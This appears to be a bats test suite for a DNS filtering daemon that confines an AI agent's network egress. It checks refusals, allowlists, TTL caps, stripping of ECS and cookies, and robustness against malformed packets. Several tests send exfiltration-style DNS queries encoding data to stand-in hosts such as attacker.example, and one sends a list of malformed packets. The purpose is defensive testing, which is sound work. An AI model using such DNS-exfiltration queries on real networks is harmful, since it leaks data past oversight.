#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# The policy DNS: queries sent from the agent's cgroup straight to the
# listener (127.0.0.1:15053 and [::1]:15053, UDP and TCP). The fake upstream
# resolver runs in the server namespace at 198.51.100.1:53 and logs every
# query it receives, so "no query left the machine" is a check on its log.
# (The kernel's redirect of the agent's own port-53 traffic to the listener
# is tested with the capture.)

load lib

# The fake resolver's log, and the records it serves (TTL 3600, above the
# cap of 30 the daemon must apply).
UP=
egd_setup_dns() {
	skip_unless_capable
	command -v dig >/dev/null || skip "dig not installed (bind9-dnsutils)"
	egd_setup_net
	egd_setup_cgroups
	UP=$T/upstream-dns.jsonl
	in_srv python3 "$FIX/dns_server.py" --listen $SRV4 --listen "$SRV6" --log "$UP" \
		--ready "$T/dns.ready" --ttl 3600 \
		--record openrouter.ai:A:198.51.100.7 --record openrouter.ai:AAAA:2001:db8::7 \
		--record openrouter.ai:HTTPS:ech-config --record openrouter.ai:TXT:secret \
		--record pypi.org:A:198.51.100.8 --record pypi.org:AAAA:2001:db8::8 \
		--record pypi.org:TXT:pypi-txt \
		--record files.pythonhosted.org:A:198.51.100.9 \
		--record other.example:A:198.51.100.10 --record other.example:TXT:other-txt \
		--record other.example:HTTPS:other-ech \
		$(for i in 1 2 3 4 5; do printf -- '--record big.example:TXT:%0200d ' $i; done) \
		>"$T/dns.out" 2>&1 3>&- &
	SERVERS_PID=$!
	wait_for 10 test -e "$T/dns.ready"
	if [ "$MODE" = nft ]; then
		egd_start_daemon --mode nft --resolvers $SRV4 \
			--agent-allow "pypi.org,*.pythonhosted.org"
	else
		egd_attach
		egd_start_daemon --mode bpf --resolvers $SRV4 \
			--agent-allow "pypi.org,*.pythonhosted.org"
	fi
	# A refused name: answered without touching the resolver or the cache.
	wait_for 10 exempt dig +time=1 +tries=1 @127.0.0.1 -p 15053 ready.invalid
	: >"$UP"
}

setup() { egd_setup_dns; }
teardown() { egd_teardown; }

# ask [dig options...]: dig from the agent's cgroup, v4 listener by default
ask() {
	agent dig +time=2 +tries=1 -p 15053 "$@"
}

upstream_saw() { # upstream_saw QNAME QTYPE
	grep -q "\"qname\": \"$1\", \"qtype\": \"$2\"" "$UP"
}

@test "agent phase: an arbitrary name is REFUSED over UDP and TCP, and no query leaves" {
	run ask @127.0.0.1 exfil-6c65616b.attacker.example A
	[ "$status" -eq 0 ]
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @127.0.0.1 +tcp another-secret.attacker.example TXT
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @::1 +tcp v6-secret.attacker.example AAAA
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @::1 v6-udp.attacker.example A
	[[ "$output" == *"status: REFUSED"* ]]
	sleep 0.3
	[ ! -s "$UP" ]
}

@test "agent phase: the intercept host gets the daemon's A and AAAA, TTL capped at 30" {
	run ask @127.0.0.1 openrouter.ai A +noall +answer
	[ "$status" -eq 0 ]
	[[ "$output" == *"198.51.100.7"* ]]
	ttl=$(awk '$4 == "A" { print $2 }' <<<"$output")
	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
	run ask @::1 +tcp openrouter.ai AAAA +noall +answer
	[[ "$output" == *"2001:db8::7"* ]]
	# The daemon asked the resolver itself, once per type.
	upstream_saw openrouter.ai A
	upstream_saw openrouter.ai AAAA
}

@test "agent phase: allowlisted names answered, exact and *.suffix, any case, trailing dot" {
	run ask @127.0.0.1 PyPi.ORG. A +noall +answer
	[[ "$output" == *"198.51.100.8"* ]]
	run ask @127.0.0.1 +tcp files.pythonhosted.org A +noall +answer
	[[ "$output" == *"198.51.100.9"* ]]
	# The apex of a wildcard is not on the list.
	run ask @127.0.0.1 pythonhosted.org A
	[[ "$output" == *"status: REFUSED"* ]]
}

@test "HTTPS, SVCB, TXT and ANY for an allowed name are NODATA, asked of nobody" {
	for t in HTTPS SVCB TXT ANY; do
		run ask @127.0.0.1 openrouter.ai $t
		[[ "$output" == *"status: NOERROR"* ]]
		[[ "$output" == *"ANSWER: 0"* ]]
	done
	run ask @127.0.0.1 +tcp pypi.org TXT
	[[ "$output" == *"status: NOERROR"* && "$output" == *"ANSWER: 0"* ]]
	sleep 0.3
	! grep -q '"qtype": "\(HTTPS\|SVCB\|TXT\|ANY\)"' "$UP"
}

@test "verification phase: other names are forwarded and relayed, ECS and cookies stripped" {
	flip_to_verification
	run ask @127.0.0.1 other.example TXT +subnet=203.0.113.0/24 +cookie
	[[ "$output" == *"other-txt"* ]]
	# The daemon's answer carries no cookie and no client subnet.
	[[ "$output" != *"COOKIE:"* ]]
	[[ "$output" != *"CLIENT-SUBNET"* ]]
	# The TTL is capped on relayed answers too.
	ttl=$(agent dig +time=2 +tries=1 -p 15053 @127.0.0.1 +tcp other.example A +noall +answer |
		awk '$4 == "A" { print $2 }')
	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
	upstream_saw other.example TXT
	# What reached the resolver had neither option.
	! grep '"qname": "other.example"' "$UP" | grep -q '"options": \[[^]]'
	# Another name's HTTPS record is passed on in this phase...
	run ask @127.0.0.1 other.example HTTPS
	[[ "$output" == *"ANSWER: 1"* ]]
	# ...the intercept host's never is.
	run ask @127.0.0.1 openrouter.ai HTTPS
	[[ "$output" == *"ANSWER: 0"* ]]
	run ask @127.0.0.1 +tcp openrouter.ai SVCB
	[[ "$output" == *"ANSWER: 0"* ]]
	! upstream_saw openrouter.ai HTTPS
	! upstream_saw openrouter.ai SVCB
}

@test "verification phase: an unknown name gets the resolver's NXDOMAIN" {
	flip_to_verification
	run ask @127.0.0.1 nope.example A
	[[ "$output" == *"status: NXDOMAIN"* ]]
	upstream_saw nope.example A
}

@test "malformed, truncated, looping and multi-question messages never crash the daemon" {
	agent python3 - <<'PY'
import socket, struct
def q(name=b"\x07example\x03com\x00", qd=1, extra=b""):
    return struct.pack("!6H", 0x1234, 0x0100, qd, 0, 0, 0) + name + b"\x00\x01\x00\x01" + extra
cases = [
    b"", b"\x12", b"\x12\x34\x01\x00\x00\x01",                  # shorter than a header
    q()[:-3],                                                   # truncated question
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01",  # self pointer
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\x01a\xc0\x0c\x00\x01\x00\x01",  # loop
    q(qd=2) + b"\x01b\x00\x00\x01\x00\x01",                      # two questions
    q(name=b"\x40" + b"a" * 64 + b"\x00"),                      # label too long
    q(name=b"\x3f" + b"a" * 63 + b"\x3f" + b"b" * 63 + b"\x3f" + b"c" * 63 + b"\x3f" + b"d" * 63 + b"\x00"),
    q() + b"trailing",
    bytes(range(256)) * 4,
    b"\xff" * 65000,
]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for c in cases:
    try:
        s.sendto(c, ("127.0.0.1", 15053))
    except OSError:
        pass
s.settimeout(0.5)
got = 0
try:
    while True:
        d = s.recv(65535)
        assert d[3] & 0x0f in (1, 4, 5), d[:4]   # FORMERR (or NOTIMP/REFUSED), never an answer
        got += 1
except socket.timeout:
    pass
assert got >= 5, got
# Over TCP: garbage frames, then a zero-length frame closes the connection.
t = socket.create_connection(("127.0.0.1", 15053))
for c in cases[3:8]:
    t.sendall(struct.pack("!H", len(c)) + c)
t.sendall(b"\x00\x00")
t.settimeout(2)
while t.recv(65535):
    pass
PY
	run ask @127.0.0.1 openrouter.ai A +short
	[[ "$output" == *"198.51.100.7"* ]]
	kill -0 "$DAEMON_PID"
	[ "$(metric 'egressd_dns_queries_total{verdict="malformed"}')" -ge 5 ]
}

@test "TCP: several queries on one connection, answered in any order with their IDs" {
	agent python3 - <<'PY'
import socket, struct
def q(qid, name, qtype):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)
t = socket.create_connection(("127.0.0.1", 15053))
msgs = [q(1, "openrouter.ai", 1), q(2, "evil.example", 1), q(3, "pypi.org", 28)]
t.sendall(b"".join(struct.pack("!H", len(m)) + m for m in msgs))
t.settimeout(5)
buf, seen = b"", {}
while len(seen) < 3:
    buf += t.recv(65535)
    while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
        n = struct.unpack("!H", buf[:2])[0]
        m, buf = buf[2:2 + n], buf[2 + n:]
        seen[struct.unpack("!H", m[:2])[0]] = m[3] & 0x0f
assert seen == {1: 0, 2: 5, 3: 0}, seen
PY
}

@test "UDP answers larger than the client's size are truncated (TC), TCP gets them whole" {
	flip_to_verification
	# Five TXT records of 200 bytes: over 512 (no EDNS), under 1232.
	run ask @127.0.0.1 big.example TXT +noedns +ignore
	[[ "$output" == *"flags: qr tc"* ]]
	[[ "$output" == *"ANSWER: 0"* ]]
	run ask @127.0.0.1 big.example TXT +noedns
	[[ "$output" == *"ANSWER: 5"* ]]
	run ask @127.0.0.1 big.example TXT +bufsize=1232
	[[ "$output" == *"ANSWER: 5"* && "$output" != *"flags: qr tc"* ]]
}

@test "one audit line per query, and metrics by verdict" {
	ask @127.0.0.1 leak.attacker.example A >/dev/null
	ask @127.0.0.1 +tcp openrouter.ai HTTPS >/dev/null
	ask @127.0.0.1 openrouter.ai A >/dev/null
	sleep 0.2
	audit_has event=dns phase=agent qname=leak.attacker.example qtype=A verdict=refuse \
		rcode=REFUSED proto=udp
	audit_has event=dns qname=openrouter.ai qtype=HTTPS verdict=nodata rcode=NOERROR proto=tcp
	audit_has event=dns qname=openrouter.ai qtype=A verdict=resolve rcode=NOERROR
	[ "$(metric 'egressd_dns_queries_total{verdict="refuse"}')" -ge 1 ]
	[ "$(metric 'egressd_dns_responses_total{rcode="REFUSED"}')" -ge 1 ]
	[ -n "$(metric 'egressd_dns_upstream_failures_total')" ]
}

@test "the resolver down: allowed names get SERVFAIL, counted as upstream failures" {
	kill "$SERVERS_PID"
	wait "$SERVERS_PID" 2>/dev/null || true
	run ask @127.0.0.1 pypi.org AAAA +time=8
	[[ "$output" == *"status: SERVFAIL"* ]]
	[ "$(metric 'egressd_dns_upstream_failures_total')" -ge 1 ]
}
